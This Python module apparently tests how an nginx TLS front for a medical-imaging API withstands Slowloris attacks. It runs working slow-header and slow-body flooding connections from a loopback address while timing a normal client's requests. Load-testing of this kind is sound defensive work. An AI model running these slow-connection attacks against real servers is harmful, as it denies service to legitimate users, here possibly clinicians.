"""Slow clients (Slowloris: trickled headers; trickled bodies) through a TLS front, with SNI.

The nginx front rejects handshakes without the right SNI, so every connection here is made with
`server_hostname` set (asyncio + ssl). Attackers connect from one loopback address (127.0.0.2 by
default), the normal client from another, as an infected workstation and a clinician would.

    slow header: the request line, then one header line every `interval` s, never the blank line.
    slow body:   a complete header block (valid token, Content-Length 64 MiB) for an upload route,
                 then one byte every `interval` s.
    normal:      GET /slicer/system/version with a valid token, one after another, each on a
                 fresh TLS connection (so a full accept queue or worker pool would show).
The result counts the normal client's requests, errors and latencies, and how many attacker
connections the front closed (and after how long) while the attack lasted.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import statistics
import time
from dataclasses import dataclass, field
from pathlib import Path

NORMAL_PATH = "/slicer/system/version"
SLOW_BODY_PATH = "/slicer/volume"
SLOW_BODY_LENGTH = 64 << 20


@dataclass
class Target:
    host: str          # address to connect to
    port: int
    server_name: str   # SNI and Host
    ca_file: Path
    token: str         # a valid bearer token (slicer.read slicer.write)

    def context(self) -> ssl.SSLContext:
        return ssl.create_default_context(cafile=str(self.ca_file))


@dataclass
class AttackResult:
    slow_header: int
    slow_body: int
    seconds: float
    normal_ok: int = 0
    normal_errors: list[str] = field(default_factory=list)
    latencies: list[float] = field(default_factory=list)
    quiet_latencies: list[float] = field(default_factory=list)
    opened: dict[str, int] = field(default_factory=lambda: {"header": 0, "body": 0})
    refused: dict[str, int] = field(default_factory=lambda: {"header": 0, "body": 0})
    closed_after: dict[str, list[float]] = field(default_factory=lambda: {"header": [], "body": []})

    def percentile(self, values: list[float], q: float) -> float:
        if not values:
            return float("nan")
        ordered = sorted(values)
        return ordered[min(len(ordered) - 1, int(q * len(ordered)))]

    def summary(self) -> dict[str, object]:
        return {
            "attackers": f"{self.slow_header} slow-header + {self.slow_body} slow-body",
            "normal_ok": self.normal_ok, "normal_errors": len(self.normal_errors),
            "quiet_p50_ms": round(1000 * self.percentile(self.quiet_latencies, 0.5), 1),
            "attack_p50_ms": round(1000 * self.percentile(self.latencies, 0.5), 1),
            "attack_p99_ms": round(1000 * self.percentile(self.latencies, 0.99), 1),
            "attack_max_ms": round(1000 * max(self.latencies, default=float("nan")), 1),
            "header_closed": f"{len(self.closed_after['header'])}/{self.opened['header']}",
            "header_closed_median_s": round(statistics.median(self.closed_after["header"]), 1)
            if self.closed_after["header"] else None,
            "body_closed": f"{len(self.closed_after['body'])}/{self.opened['body']}",
            "refused": dict(self.refused),
        }


async def _connect(target: Target, source: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.wait_for(asyncio.open_connection(
        target.host, target.port, ssl=target.context(), server_hostname=target.server_name,
        local_addr=(source, 0)), timeout=30)


async def _slow(target: Target, kind: str, source: str, interval: float, stop: asyncio.Event,
                result: AttackResult) -> None:
    try:
        reader, writer = await _connect(target, source)
    except (TimeoutError, OSError, ssl.SSLError):
        result.refused[kind] += 1
        return
    result.opened[kind] += 1
    started = time.monotonic()
    host = f"Host: {target.server_name}\r\n"
    try:
        if kind == "header":
            writer.write(f"GET {NORMAL_PATH} HTTP/1.1\r\n{host}".encode())
        else:
            writer.write((f"POST {SLOW_BODY_PATH} HTTP/1.1\r\n{host}Authorization: Bearer {target.token}\r\n"
                          f"Content-Type: application/octet-stream\r\nContent-Length: {SLOW_BODY_LENGTH}\r\n\r\n"
                          "NRRD0004\n").encode())
        await writer.drain()
        index = 0
        while not stop.is_set():
            # Closed by the server? A read returning b"" (or a response) means the front gave up on us.
            with contextlib.suppress(TimeoutError):
                data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                if not data or data.startswith(b"HTTP/"):
                    result.closed_after[kind].append(time.monotonic() - started)
                    return
            index += 1
            writer.write(f"X-Slow-{index}: {index}\r\n".encode() if kind == "header" else b"\x00")
            await writer.drain()
    except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
        result.closed_after[kind].append(time.monotonic() - started)
    finally:
        writer.close()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(writer.wait_closed(), timeout=2)


async def _normal_request(target: Target, source: str) -> tuple[bool, float, str]:
    started = time.monotonic()
    try:
        reader, writer = await _connect(target, source)
        writer.write((f"GET {NORMAL_PATH} HTTP/1.1\r\nHost: {target.server_name}\r\n"
                      f"Authorization: Bearer {target.token}\r\nConnection: close\r\n\r\n").encode())
        await writer.drain()
        response = await asyncio.wait_for(reader.read(), timeout=30)
        writer.close()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(writer.wait_closed(), timeout=2)
    except (TimeoutError, OSError, ssl.SSLError) as exc:
        return False, time.monotonic() - started, f"{type(exc).__name__}: {exc}"
    ok = response.startswith(b"HTTP/1.1 200") and b'"applicationName"' in response
    return ok, time.monotonic() - started, "" if ok else response[:200].decode("latin-1")


async def _normal_loop(target: Target, source: str, stop: asyncio.Event, result: AttackResult) -> None:
    while not stop.is_set():
        ok, seconds, error = await _normal_request(target, source)
        result.latencies.append(seconds)
        if ok:
            result.normal_ok += 1
        else:
            result.normal_errors.append(error)
        await asyncio.sleep(0.05)


async def attack(target: Target, *, slow_header: int, slow_body: int, seconds: float, interval: float = 2.0,
                 attacker_address: str = "127.0.0.2", client_address: str = "127.0.0.1",
                 quiet_requests: int = 20) -> AttackResult:
    """Measure the normal client quietly, then during `seconds` of slow-header and slow-body attack."""
    result = AttackResult(slow_header, slow_body, seconds)
    for _ in range(quiet_requests):
        ok, latency, error = await _normal_request(target, client_address)
        result.quiet_latencies.append(latency)
        if not ok:
            result.normal_errors.append("quiet: " + error)
    stop = asyncio.Event()
    attackers = [asyncio.create_task(_slow(target, kind, attacker_address, interval, stop, result))
                 for kind, count in (("header", slow_header), ("body", slow_body)) for _ in range(count)]
    await asyncio.sleep(min(3.0, seconds / 4))  # let the attack build up before measuring
    normal = asyncio.create_task(_normal_loop(target, client_address, stop, result))
    await asyncio.sleep(seconds)
    stop.set()
    await asyncio.gather(normal, *attackers, return_exceptions=True)
    return result
